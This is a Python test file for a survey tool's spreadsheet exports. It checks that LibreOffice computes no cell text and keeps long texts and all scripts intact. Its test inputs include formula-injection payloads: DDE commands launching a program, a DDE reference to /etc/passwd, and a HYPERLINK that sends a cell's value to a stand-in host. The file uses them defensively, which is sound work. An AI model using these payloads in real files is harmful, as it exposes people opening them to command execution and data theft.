"""What LibreOffice makes of the files that are made for spreadsheets: it computes nothing, and changes no word."""

from __future__ import annotations

import openpyxl
import pytest

from survey.instrument.dictionary import Type, Variable
from survey.instrument.grammar import Text
from survey.release.exporting import FORMATS
from tests import in_calc
from tests.readers import with_calc
from tests.recension import MIXED
from tests.tables import AT, rows, table

COMPUTED = ("=1+1", "=SUM(1)", "=A1")
HOSTILE = (
    *COMPUTED, "+1+1", "-2+3", "\ufeff=1+1",
    "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "\t=1+1", "\n=1+1",
    '=DDE("soffice";"/etc/passwd";"x")', '=HYPERLINK("http://exemple.test/?"&A1;"ici")', "＝1+1", "＋1+1", "－2+3",
    "＠SUM(1)", " =1+1", "\xa0=1+1", "{=1+1}", '=1+1";"=2+2', ";=1+1", '"=1+1"', "of:=1+1", "<r><t>=1+1</t></r>",
)  # fmt: skip
KEY, WORDS = Variable("case_id", Text("Dossier", "Case")), Variable("words", Text("Mots", "Words"), Type.TEXT)
#: The formats for spreadsheets, and each way to open them.
OPENED = [("xlsx", None), ("csv-excel", in_calc.AS_TEXT), ("csv-excel", in_calc.COMPUTING)]


def of_texts(texts):
    return table([KEY, WORDS], [[n, text] for n, text in enumerate(texts, start=1)])


def opened(form, reading, of, tmp_path):
    """The rows of cells of a file below their headings, and what its writer says."""
    path = tmp_path / f"x{FORMATS[form].ending}"
    notices = FORMATS[form].write(path, of, "fr")
    return shown(path, reading)[1:], notices


def shown(path, reading=None):
    return list(openpyxl.load_workbook(in_calc.saved(path, reading)).worksheets[0].iter_rows())


def test_what_is_hostile_is_computed_where_nothing_is_done_about_it(tmp_path):
    path = tmp_path / "bare.csv"
    path.write_text("\n".join(COMPUTED), encoding="utf-8")
    kinds = [row[0].data_type for row in shown(path, in_calc.COMPUTING)]
    assert kinds == ["f"] * len(COMPUTED), "the tests below see what they look for"


@pytest.mark.parametrize(("form", "reading"), OPENED)
def test_no_text_is_computed(form, reading, tmp_path):
    lines, _ = opened(form, reading, of_texts(HOSTILE), tmp_path)
    assert [line[1].data_type for line in lines] == ["s"] * len(HOSTILE)
    led = "'" if form == "csv-excel" else ""
    for text, line in zip(HOSTILE, lines, strict=True):
        assert line[1].value in (text, led + text)


@pytest.mark.parametrize(("form", "reading"), OPENED)
def test_a_full_cell_holds_and_a_longer_text_goes_on_and_is_whole_beside_the_file(form, reading, tmp_path):
    limit = 32_767 if form == "xlsx" else 32_766
    texts = ["é" * limit, "😀" * 16_383 + "œ" * (limit - 32_766), "ç" * (limit + 1), "Noël à Ūnal " * 9_000 + "."]
    lines, notices = opened(form, reading, of_texts(texts), tmp_path)
    parts = [[cell.value for cell in line[1:] if cell.value] for line in lines]
    assert [len(one) for one in parts] == [1, 1, 2, 4]
    assert ["".join(one) for one in parts] == texts
    (beside,) = tmp_path.glob("*.texts.csv")
    assert beside.name in notices[0]
    assert all(text in beside.read_text("utf-8") for text in texts[2:])


@pytest.mark.parametrize(("form", "reading"), OPENED)
def test_accents_and_every_script_hold(form, reading, tmp_path):
    texts = [MIXED, "Éàçùœæ – « l’été »…", "漢字 ß Ω \u0301e", "👩🏽‍🏫"]
    lines, _ = opened(form, reading, of_texts(texts), tmp_path)
    assert [line[1].value for line in lines] == texts


def test_the_hardest_table_comes_back_from_a_workbook(tmp_path):
    path = tmp_path / "x.xlsx"
    FORMATS["xlsx"].write(path, table(), "fr")
    assert with_calc(path, table()) == rows()


def test_the_sheets_beside_the_data_are_read_too(tmp_path):
    path = tmp_path / "x.xlsx"
    FORMATS["xlsx"].write(path, table(), "en")
    read = openpyxl.load_workbook(in_calc.saved(path))
    assert read.sheetnames == ["Data", "Dictionary", "Codes", "About"]
    assert dict(read["About"].iter_rows(values_only=True))["As of (UTC)"] == AT.replace(tzinfo=None)
    assert {cell.data_type for cell in read["Codes"]["B"][1:]} == {"n"}
